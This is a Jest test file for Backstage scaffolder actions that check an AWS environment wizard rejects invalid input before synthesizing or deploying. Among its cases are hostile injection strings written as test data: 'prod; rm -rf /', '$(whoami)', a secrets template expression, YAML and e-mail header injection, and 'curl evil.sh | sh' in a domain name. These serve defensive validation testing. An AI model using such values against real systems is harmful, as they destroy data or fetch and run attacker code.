import { mockServices } from '@backstage/backend-test-utils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { synthesizeEnvironment } from '@innovate/environment-cdk';
import { createDeployAction } from './deploy';
import { createEstimateAction } from './estimate';
import { createSynthAction } from './synth';
import {
  FakeAwsEnvironmentsBackend,
  FakeCatalogLookup,
} from '../testUtils/FakeAwsEnvironmentsBackend';

jest.mock('@innovate/environment-cdk', () => ({
  synthesizeEnvironment: jest.fn(),
}));

type Spec = Record<string, any>; // the wizard's free-form values, mutated per case

const valid = (): Spec => ({
  name: 'innovate-staging',
  accounts: { management: '111111111111', workloads: '333333333333' },
  region: 'us-east-1',
  network: { vpcCidr: '10.0.0.0/16', azCount: 3, natGateways: 3 },
  cluster: {
    kubernetesVersion: '1.33',
    systemNodeGroup: {
      instanceType: 't3.medium',
      minSize: 2,
      desiredSize: 2,
      maxSize: 3,
    },
    applicationNodeGroup: {
      instanceType: 't3.large',
      minSize: 2,
      desiredSize: 2,
      maxSize: 20,
    },
    hpa: { minReplicas: 2, maxReplicas: 100 },
  },
  database: {
    instanceClass: 'db.t3.medium',
    allocatedStorageGb: 100,
    multiAz: false,
    backupRetentionDays: 14,
  },
  budget: { monthlyUsd: 430, alertEmail: 'platform-alerts@innovate.example' },
});

// [what is wrong, change to the valid spec, the field the error must name]
const cases: Array<[string, (s: Spec) => void, string]> = [
  ['missing name', s => delete s.name, 'name'],
  ['upper-case name', s => (s.name = 'Innovate-Prod'), 'name'],
  ['name with underscore', s => (s.name = 'innovate_prod'), 'name'],
  ['name starting with a digit', s => (s.name = '1nnovate'), 'name'],
  ['name too long', s => (s.name = `a${'b'.repeat(80)}`), 'name'],
  ['shell metacharacters in name', s => (s.name = 'prod; rm -rf /'), 'name'],
  ['command substitution in name', s => (s.name = '$(whoami)'), 'name'],
  [
    'template expression in name',
    s => (s.name = '${{ secrets.GITHUB_TOKEN }}'),
    'name',
  ],
  ['YAML injection in name', s => (s.name = 'prod\nkind: Secret'), 'name'],
  ['missing accounts', s => delete s.accounts, 'accounts'],
  [
    '11-digit management account',
    s => (s.accounts.management = '11111111111'),
    'accounts.management',
  ],
  [
    'letters in workloads account',
    s => (s.accounts.workloads = '33333333333a'),
    'accounts.workloads',
  ],
  [
    'account id as a number',
    s => (s.accounts.workloads = 333333333333),
    'accounts.workloads',
  ],
  ['unknown region', s => (s.region = 'mars-east-1'), 'region'],
  [
    'CIDR that is not a CIDR',
    s => (s.network.vpcCidr = '10.0.0.0'),
    'network.vpcCidr',
  ],
  [
    'CIDR too large (/8)',
    s => (s.network.vpcCidr = '10.0.0.0/8'),
    'network.vpcCidr',
  ],
  [
    'CIDR too small (/28)',
    s => (s.network.vpcCidr = '10.0.0.0/28'),
    'network.vpcCidr',
  ],
  [
    'CIDR with host bits',
    s => (s.network.vpcCidr = '10.0.0.1/16'),
    'network.vpcCidr',
  ],
  [
    'more NAT gateways than AZs',
    s => (s.network.natGateways = 4),
    'network.natGateways',
  ],
  [
    'unknown system instance type',
    s => (s.cluster.systemNodeGroup.instanceType = 't3.gigantic'),
    'cluster.systemNodeGroup.instanceType',
  ],
  [
    'app node group min > max',
    s =>
      Object.assign(s.cluster.applicationNodeGroup, { minSize: 5, maxSize: 3 }),
    'cluster.applicationNodeGroup',
  ],
  [
    'app desired above max',
    s => (s.cluster.applicationNodeGroup.desiredSize = 30),
    'cluster.applicationNodeGroup.desiredSize',
  ],
  [
    'negative node count',
    s => (s.cluster.systemNodeGroup.minSize = -1),
    'cluster.systemNodeGroup.minSize',
  ],
  [
    'fractional node count',
    s => (s.cluster.applicationNodeGroup.desiredSize = 2.5),
    'cluster.applicationNodeGroup.desiredSize',
  ],
  [
    'node count as text',
    s => (s.cluster.applicationNodeGroup.maxSize = 'twenty'),
    'cluster.applicationNodeGroup.maxSize',
  ],
  [
    'HPA min > max',
    s => Object.assign(s.cluster.hpa, { minReplicas: 50, maxReplicas: 10 }),
    'cluster.hpa',
  ],
  [
    'unsupported Kubernetes version',
    s => (s.cluster.kubernetesVersion = '1.20'),
    'cluster.kubernetesVersion',
  ],
  [
    'unknown DB class',
    s => (s.database.instanceClass = 'db.x99.huge'),
    'database.instanceClass',
  ],
  [
    'storage below the minimum',
    s => (s.database.allocatedStorageGb = 5),
    'database.allocatedStorageGb',
  ],
  [
    'backup retention of 0 (no PITR)',
    s => (s.database.backupRetentionDays = 0),
    'database.backupRetentionDays',
  ],
  [
    'backup retention above 35 days',
    s => (s.database.backupRetentionDays = 36),
    'database.backupRetentionDays',
  ],
  ['budget of zero', s => (s.budget.monthlyUsd = 0), 'budget.monthlyUsd'],
  ['negative budget', s => (s.budget.monthlyUsd = -430), 'budget.monthlyUsd'],
  [
    'missing alert e-mail',
    s => delete s.budget.alertEmail,
    'budget.alertEmail',
  ],
  [
    'header injection in e-mail',
    s => (s.budget.alertEmail = 'ops@innovate.example\nBcc: evil@x.io'),
    'budget.alertEmail',
  ],
  [
    'hostile domain name',
    s => (s.domain = { name: 'innovate.example; curl evil.sh | sh' }),
    'domain.name',
  ],
];

describe('bad wizard input is rejected before anything is synthesized or deployed', () => {
  it('has at least 30 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  it('accepts the valid spec every case starts from', async () => {
    const ctx = createMockActionContext({ input: { spec: valid() } });
    await createEstimateAction().handler(ctx);
    expect(ctx.output).toHaveBeenCalledWith('budgetUsd', 430);
  });

  it.each(cases)('%s', async (_what, change, field) => {
    const spec = valid();
    change(spec);
    const backend = new FakeAwsEnvironmentsBackend();
    const actions = [
      createEstimateAction(),
      createSynthAction(),
      createDeployAction({
        backend,
        catalog: new FakeCatalogLookup(),
        auth: mockServices.auth(),
        appBaseUrl: 'http://portal.test',
      }),
    ];
    for (const action of actions) {
      const ctx = createMockActionContext({ input: { spec } });
      const escaped = `spec.${field}`.replace(/\./g, '\\.');
      await expect(action.handler(ctx)).rejects.toThrow(
        new RegExp(`${escaped}(\\.|:|\\s)`),
      );
      expect(ctx.output).not.toHaveBeenCalled();
    }
    expect(synthesizeEnvironment).not.toHaveBeenCalled();
    expect(backend.calls).toEqual([]);
  });
});
